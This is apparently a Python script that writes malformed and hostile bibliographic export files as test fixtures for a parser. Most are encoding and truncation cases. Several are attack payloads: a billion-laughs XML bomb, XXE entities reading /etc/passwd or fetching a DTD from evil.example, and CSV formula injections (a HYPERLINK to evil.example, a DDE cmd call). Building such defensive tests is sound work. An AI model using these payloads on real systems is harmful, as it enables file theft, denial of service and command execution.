"""Write the malformed and hostile exports of this folder (run from the repo root).

Each file is small and hand-made; ``expected_errors.tsv`` gives the exact message
each must produce. Re-run after changing a case: ``python tests/data/bad/make_bad_inputs.py``.
"""

from pathlib import Path

HERE = Path(__file__).parent

RIS_RECORD = "TY  - JOUR\nTI  - A trial of something\nAU  - Smith, J\nPY  - 2020\nER  - \n\n"
NBIB_RECORD = (
    "PMID- 12345678\nTI  - A trial of something.\nAU  - Smith J\nDP  - 2020\n"
    "SO  - J Test. 2020;1:1-2.\n\n"
)
XML_HEAD = '<?xml version="1.0"?>\n'
PUBMED_ARTICLE = (
    "<PubmedArticle><MedlineCitation><PMID>1</PMID><Article><ArticleTitle>{title}"
    "</ArticleTitle></Article></MedlineCitation></PubmedArticle>"
)
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>\n'
)
SCOPUS_HEADER = "Authors,Title,Year,Source title,DOI,EID\n"
WOS_TAB_HEADER = "PT\tAU\tTI\tSO\tPY\tUT\n"

FILES: dict[str, bytes] = {
    "empty.ris": b"",
    "blank_lines.ris": b"\n\n   \n",
    "binary.ris": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
    "utf16_without_bom.ris": RIS_RECORD.encode("utf-16-le"),
    "utf16_odd_length.ris": b"\xff\xfe" + RIS_RECORD.encode("utf-16-le") + b"\x00",
    "utf32.ris": RIS_RECORD.encode("utf-32"),
    "utf8_bom_then_latin1.ris": b"\xef\xbb\xbf"
    + RIS_RECORD.replace("Smith", "M\xfcller").encode("latin-1"),
    "undefined_cp1252_byte.ris": RIS_RECORD.replace("Smith", "Sm\x81th").encode("latin-1"),
    "control_character.ris": RIS_RECORD.replace("trial", "tri\x01al").encode(),
    "ris_truncated.ris": (RIS_RECORD + "TY  - JOUR\nTI  - Cut short\nAU  - Lee, K\n").encode(),
    "ris_end_without_start.ris": (RIS_RECORD + "ER  - \n").encode(),
    "ris_missing_end_between.ris": ("TY  - JOUR\nTI  - First\n" + RIS_RECORD).encode(),
    "ris_no_title.ris": (RIS_RECORD + "TY  - JOUR\nAU  - Lee, K\nPY  - 2021\nER  - \n").encode(),
    "ris_huge_field.ris": (
        "TY  - JOUR\nTI  - Huge\nAB  - " + "\n".join(["word " * 2000] * 11) + "\nER  - \n"
    ).encode(),
    "prose.txt": b"Dear colleague,\nplease find the search results attached.\n",
    "html_page.xml": b"<html><body><p>Search results</p></body></html>\n",
    "medline_truncated.nbib": (NBIB_RECORD + "PMID- 23456789\nTI  - Cut short.\nAU  - Le").encode(),
    "medline_garbage_line.nbib": (
        NBIB_RECORD + "PMID- 2\nTI  - Two.\n<<binary junk>>\nSO  - x\n"
    ).encode(),
    "medline_text_before_first_record.nbib": (
        "Search results from PubMed\n" + NBIB_RECORD
    ).encode(),
    "medline_no_title.nbib": (
        NBIB_RECORD + "PMID- 23456789\nAU  - Lee K\nDP  - 2021\nSO  - J. 2021.\n"
    ).encode(),
    "medline_records_not_separated.nbib": (
        NBIB_RECORD.strip() + "\nPMID- 2\nTI  - Two.\nSO  - x\n"
    ).encode(),
    "pubmed_billion_laughs.xml": (
        XML_HEAD
        + LAUGHS
        + "<PubmedArticleSet>"
        + PUBMED_ARTICLE.format(title="&lol3;")
        + "</PubmedArticleSet>\n"
    ).encode(),
    "pubmed_external_entity.xml": (
        XML_HEAD + '<!DOCTYPE PubmedArticleSet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        "<PubmedArticleSet>" + PUBMED_ARTICLE.format(title="&xxe;") + "</PubmedArticleSet>\n"
    ).encode(),
    "pubmed_external_parameter_entity.xml": (
        XML_HEAD
        + '<!DOCTYPE PubmedArticleSet [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>\n'
        "<PubmedArticleSet>" + PUBMED_ARTICLE.format(title="One") + "</PubmedArticleSet>\n"
    ).encode(),
    "pubmed_truncated.xml": (
        XML_HEAD + "<PubmedArticleSet>\n" + PUBMED_ARTICLE.format(title="One") + "\n<PubmedArt"
    ).encode(),
    "pubmed_no_title.xml": (
        XML_HEAD + "<PubmedArticleSet>" + PUBMED_ARTICLE.format(title="") + "</PubmedArticleSet>\n"
    ).encode(),
    "pubmed_zero_records.xml": (XML_HEAD + "<PubmedArticleSet>\n</PubmedArticleSet>\n").encode(),
    "endnote_entity_expansion.xml": (
        XML_HEAD + LAUGHS + "<xml><records><record><ref-type name='Journal Article'>17</ref-type>"
        "<titles><title>&lol3;</title></titles></record></records></xml>\n"
    ).encode(),
    "endnote_malformed.xml": (
        XML_HEAD + "<xml><records><record><ref-type name='Journal Article'>17</ref-type>"
        "<titles><title>Open</titles></record></records></xml>\n"
    ).encode(),
    "scopus_formula.csv": (
        SCOPUS_HEADER + "Smith J.,A trial,2020,J Test,10.1/x,2-s2.0-1\n"
        'Lee K.,"=HYPERLINK(""http://evil.example"",""click"")",2021,J Test,,2-s2.0-2\n'
    ).encode(),
    "embase_dde_formula.csv": (
        b"Title,Author Names,Source,Open URL Link\n"
        b"\"@SUM(1+1)*cmd|' /C calc'!A0\",Smith J.,J Test (2020) 1:1 (1-2),\n"
    ),
    "scopus_unclosed_quote.csv": (
        SCOPUS_HEADER + 'Smith J.,"A trial,2020,J Test,,2-s2.0-1\n'
    ).encode(),
    "csv_without_title_column.csv": b"Authors,Year,Source title,EID\nSmith J.,2020,J Test,2-s2.0-1\n",  # noqa: E501
    "csv_unknown_columns.csv": b'"Title","Authors","Publication","DOI"\n"A trial","Smith J","J Test","10.1/x"\n',  # noqa: E501
    "wos_tagged_truncated.txt": (
        b"FN Clarivate Analytics Web of Science\nVR 1.0\nPT J\nAU Smith, J\nTI A trial\nPY 2020\nER\n\n"  # noqa: E501
        b"PT J\nAU Lee, K\nTI Cut\n"
    ),
    "wos_tab_formula.txt": (WOS_TAB_HEADER + "J\tSmith, J\t=1+2\tJ TEST\t2020\tWOS:1\n").encode(),
    "wos_tab_without_title.txt": b"PT\tAU\tSO\tPY\tUT\nJ\tSmith, J\tJ TEST\t2020\tWOS:1\n",
    "bibtex_truncated.bib": (
        b"@ARTICLE{One2020,\ntitle={A trial},\nyear={2020}\n}\n\n@ARTICLE{Two2021,\ntitle={Cut short\n"  # noqa: E501
    ),
    "medline_format_on_ris.ris": RIS_RECORD.encode(),
}


def main() -> None:
    for name, data in FILES.items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
